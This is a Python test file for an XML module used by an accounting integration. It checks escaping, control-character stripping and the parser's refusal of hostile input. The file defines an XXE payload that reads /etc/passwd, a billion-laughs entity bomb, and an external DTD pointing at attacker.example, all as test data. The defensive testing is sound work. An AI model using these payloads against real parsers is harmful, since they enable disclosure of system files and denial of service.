"""Values are cleaned then escaped on the way out; hostile XML is refused on the way in."""

from __future__ import annotations

import time

import pytest
import requests
from hypothesis import given, settings
from hypothesis import strategies as st

from integrations.systems.errors import SystemicError
from integrations.systems.intacct_envelope import parse_response
from integrations.systems.intacct_xml import UnsafeXml, clean, element, escape, parse

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE response [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<response><control><status>&xxe;</status></control></response>"""

BOMB = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<response><control><status>&lol9;</status></control></response>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE response SYSTEM "http://attacker.example/evil.dtd">
<response><control><status>success</status></control></response>"""


@settings(max_examples=400, deadline=None)
@given(st.text())
def test_any_string_round_trips_through_element_text(value):
    doc = element("VALUE", value)
    parsed = parse(f"<root>{doc}</root>")
    assert (parsed[0].text or "") == clean(value)


@settings(max_examples=400, deadline=None)
@given(st.text())
def test_any_string_round_trips_through_an_attribute(value):
    parsed = parse(str(element("function", None, {"controlid": value})))
    assert parsed.get("controlid") == clean(value)


@settings(max_examples=200, deadline=None)
@given(st.dictionaries(st.sampled_from(["VENDORID", "DESCRIPTION", "DOCNUMBER"]), st.text(), min_size=1))
def test_a_whole_record_is_well_formed_whatever_its_values(values):
    parsed = parse(str(element("APBILL", values)))
    assert {child.tag: child.text or "" for child in parsed} == {k: clean(v) for k, v in values.items()}


def test_it_strips_c0_controls_but_keeps_tab_newline_and_carriage_return():
    raw = "A\x00B\x01C\x08D\x0bE\x0cF\x0eG\x1fH\tI\nJ\rK"
    assert clean(raw) == "ABCDEFGH\tI\nJ\rK"


def test_it_strips_before_escaping_so_no_control_character_reference_survives():
    assert escape("Tom & Jerry\x07 <b>'x'\"") == "Tom &amp; Jerry &lt;b&gt;&apos;x&apos;&quot;"


def test_carriage_returns_survive_the_parsers_line_end_normalisation():
    value = "one\r\ntwo\rthree"
    assert parse("<a>" + escape(value) + "</a>").text == value


def test_it_refuses_floats_for_amounts():
    with pytest.raises(TypeError):
        element("TRX_AMOUNT", 10.5)


def test_an_xxe_payload_is_refused_and_no_file_is_read():
    with pytest.raises(UnsafeXml, match="DOCTYPE"):
        parse(XXE)
    with pytest.raises(SystemicError, match="refused"):
        parse_response(XXE)


def test_an_entity_bomb_is_refused_at_once_without_expansion():
    started = time.perf_counter()
    with pytest.raises(UnsafeXml):
        parse(BOMB)
    assert time.perf_counter() - started < 1.0


def test_an_external_dtd_is_neither_fetched_nor_accepted(monkeypatch):
    def no_network(*args, **kwargs):  # pragma: no cover - fails the test if reached
        raise AssertionError("the parser tried to reach the network")

    monkeypatch.setattr(requests.Session, "request", no_network)
    with pytest.raises(UnsafeXml, match="DOCTYPE"):
        parse(EXTERNAL_DTD)


def test_a_bare_entity_reference_without_a_dtd_is_not_well_formed():
    with pytest.raises(UnsafeXml):
        parse(b"<response><a>&xxe;</a></response>")


def test_tag_names_are_never_built_from_data():
    with pytest.raises(ValueError):
        element("a><b", "x")
